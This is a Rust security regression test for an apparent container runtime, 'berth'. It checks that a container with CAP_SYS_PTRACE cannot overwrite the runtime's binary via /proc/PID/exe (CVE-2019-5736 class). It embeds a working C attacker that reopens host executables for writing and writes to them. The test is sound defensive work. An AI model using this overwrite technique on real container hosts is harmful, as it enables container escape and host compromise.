//! A container cannot overwrite the berth binary (CVE-2019-5736 class). While `berth exec` sets up,
//! the process it starts inside the container is a clone of berth; a container process with
//! CAP_SYS_PTRACE can open its `/proc/PID/exe`, wait until no process runs the binary, and reopen
//! it for writing. berth runs every process that starts container processes from a read-only view
//! of its binary, so that reopening fails. The attack runs against a copy of berth, never the
//! binary under test.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use sha2::{Digest, Sha256};

use crate::common::{need, with_busybox};

/// Holds the exe of every process that appears in the container and is neither itself nor busybox,
/// and keeps trying to reopen each for writing until a second after /tmp/done appears. Writes "BERTH-OVERWRITTEN" at the start of any file it can open.
/// Prints "caught N", "wrote N" and, per held file, the last errno of its reopening.
const ATTACKER: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

int main(void) {
  struct stat busybox;
  if (stat("/bin/busybox", &busybox) != 0) return 2;
  int held[MAX_HELD], last_errno[MAX_HELD], count = 0, wrote = 0;
  struct stat held_stat[MAX_HELD];
  pid_t self = getpid();
  time_t done_at = 0;
  for (;;) {
    struct stat done;
    if (done_at == 0 && stat("/tmp/done", &done) == 0) done_at = time(NULL);
    if (done_at != 0 && time(NULL) > done_at + 1) break;
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)) != NULL) {
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == self || count == MAX_HELD) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st;
      int known = fstat(fd, &st) != 0 || (st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino);
      for (int i = 0; i < count && !known; i++)
        known = held_stat[i].st_dev == st.st_dev && held_stat[i].st_ino == st.st_ino;
      if (known) { close(fd); continue; }
      held[count] = fd; held_stat[count] = st; last_errno[count] = 0; count++;
    }
    if (proc) closedir(proc);
    for (int i = 0; i < count; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) { last_errno[i] = errno; continue; }
      if (pwrite(w, "BERTH-OVERWRITTEN", 17, 0) == 17) wrote++;
      else last_errno[i] = errno;
      close(w);
    }
  }
  printf("caught %d\nwrote %d\n", count, wrote);
  for (int i = 0; i < count; i++) printf("held %d: %s\n", i, strerror(last_errno[i]));
  return 0;
}
"#;

fn sha256(path: &Path) -> String {
    hex::encode(Sha256::digest(fs::read(path).expect("read the binary")))
}

#[test]
fn a_container_with_sys_ptrace_cannot_overwrite_the_berth_binary() {
    attack_exec("bin", "Read-only file system");
}

/// Where overlayfs cannot name the binary's directory (a ':' in it), berth runs from a sealed memfd
/// copy: the attacker may open it for writing, but every write fails.
#[test]
fn the_sealed_copy_in_memory_holds_too() {
    attack_exec("bin:copy", "Operation not permitted");
}

/// Runs 20 `berth exec`s with a copy of berth installed in `dir` (under the test's directory) into a
/// container running the attacker; `refusal` is the error every attempt to write the copy must meet.
fn attack_exec(dir: &str, refusal: &str) {
    if !need("gcc") {
        return;
    }
    let Some(berth) = with_busybox() else { return };
    let attacker = crate::static_program(berth.dir.path(), "attacker", ATTACKER);

    // The copy the attack aims at, with the shim beside it as installed.
    let bin = berth.path(dir);
    fs::create_dir_all(&bin).expect("mkdir bin");
    let built = Path::new(env!("CARGO_BIN_EXE_berth"));
    let copy = bin.join("berth");
    fs::copy(built, &copy).expect("copy berth");
    if let Some(shim) = built.parent().map(|d| d.join("berth-shim")).filter(|s| s.is_file()) {
        fs::copy(shim, bin.join("berth-shim")).expect("copy berth-shim");
    }
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("chmod");
    let before = sha256(&copy);
    let copy_cmd = |args: &[&str]| {
        let mut cmd = Command::new(&copy);
        cmd.env("BERTH_ROOT", berth.root())
            .env("BERTH_RUNROOT", berth.path("run"))
            .args(args);
        cmd.output()
    };

    let id = berth.ok(&[
        "create",
        "--cap-add",
        "SYS_PTRACE",
        "--network",
        "none",
        "busybox",
        "/attacker",
    ]);
    let id = id.trim();
    berth.ok(&["cp", &attacker.to_string_lossy(), &format!("{id}:/attacker")]);
    berth.ok(&["start", id]);

    // Each exec runs the copy; its processes inside the container are what the attacker catches. Once
    // the attacker holds the copy open for writing, executing it fails (ETXTBSY) or runs its bytes.
    let mut failures = Vec::new();
    for run in 0..20 {
        match copy_cmd(&["exec", id, "true"]) {
            Ok(out) if out.status.success() => {}
            Ok(out) => failures.push(format!("exec {run}: {}", String::from_utf8_lossy(&out.stderr))),
            Err(e) => failures.push(format!("exec {run}: {e}")),
        }
    }
    berth.ok(&["exec", id, "touch", "/tmp/done"]);
    assert_eq!(berth.ok(&["wait", id]).trim(), "0");
    let report = berth.ok(&["logs", id]);

    let number = |key: &str| -> u32 {
        report
            .lines()
            .find_map(|l| l.strip_prefix(key))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or_else(|| panic!("no {key:?} in the attacker's report: {report}"))
    };
    // The attack had its chance: it held the binary of a process berth started in the container.
    assert!(
        number("caught ") >= 1,
        "the attacker never saw a berth process: {report}"
    );
    assert_eq!(number("wrote "), 0, "the container wrote to the berth binary: {report}");
    assert!(failures.is_empty(), "{failures:?}");
    assert_eq!(sha256(&copy), before, "the berth binary changed: {report}");
    // Each held binary refused: the overlay view with EROFS, a sealed memfd's writes with EPERM.
    let held: Vec<&str> = report.lines().filter(|l| l.starts_with("held ")).collect();
    assert!(
        held.iter()
            .all(|l| l.ends_with("Read-only file system") || l.ends_with("Operation not permitted")),
        "{report}"
    );
    // The copy's own processes met `refusal` (the last exec, by the test's berth, meets EROFS).
    assert!(
        held.iter().any(|l| l.ends_with(refusal)),
        "expected {refusal:?}: {report}"
    );
    // The copy still works.
    let out = copy_cmd(&["version", "--format", "{{.Client.Version}}"]).expect("run the copy");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}
